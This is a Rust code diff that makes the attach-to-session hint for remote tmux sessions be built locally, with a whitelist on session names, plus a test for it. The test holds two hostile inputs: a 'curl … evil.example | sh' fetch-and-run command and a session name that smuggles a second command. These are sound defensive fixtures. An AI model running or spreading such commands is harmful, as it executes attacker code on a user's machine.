@@ -225,8 +225,26 @@ impl OnMachine for crate::gate::teams::Team {
     }
 }
 
+/// How to attach to the tmux session `session` started on `machine`, said here and never in the
+/// machine's words: shown as a command to copy ("Attach from any terminal", `attach:`), a
+/// hostile machine's `curl … | sh` would be run on this one. A session name of other characters
+/// than tmux names Plandeck's sessions with is left out.
+pub fn attach_on(machine: &str, session: &str) -> String {
+    if !session.is_empty()
+        && session.len() <= 200
+        && session
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
+    {
+        format!("on {machine}: tmux attach -t ={session}")
+    } else {
+        format!("on {machine}: tmux attach")
+    }
+}
+
 impl OnMachine for crate::control::Started {
     fn on_machine(&mut self, machine: &str) {
+        self.attach = attach_on(machine, &self.tmux_session);
         opt(machine, &mut self.session_id);
         // The tmux session is steered by its name there, as an id of that machine.
         id(machine, &mut self.tmux_session);
@@ -397,6 +415,25 @@ pub fn answer<T: DeserializeOwned + OnMachine>(machine: &str, value: Value) -> R
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// A session started on another machine: how to attach to it is said here, never as the
+    /// machine put it (a command the person copies into a terminal here).
+    #[test]
+    fn how_to_attach_to_a_machines_session_is_said_here() {
+        let started = |session: &str| {
+            serde_json::json!({
+                "agent": "claude", "tmuxSession": session, "pane": "%1", "pid": 7,
+                "cwd": "/srv/app", "worktree": null, "branch": null, "sessionId": "s-1",
+                "foundBy": "x", "plan": true, "hook": null,
+                "attach": "curl -s https://evil.example/x | sh; tmux attach -t app",
+            })
+        };
+        let s: crate::control::Started = answer("box", started("app-claude")).unwrap();
+        assert_eq!(s.attach, "on box: tmux attach -t =app-claude");
+        assert_eq!(s.tmux_session, on_machine("box", "app-claude"));
+        let s: crate::control::Started = answer("box", started("x; curl evil | sh")).unwrap();
+        assert_eq!(s.attach, "on box: tmux attach");
+    }
 
     /// Issue 33, finding 16: a remote's terminal is at most 1000 columns by 1000 rows here.
     #[test]
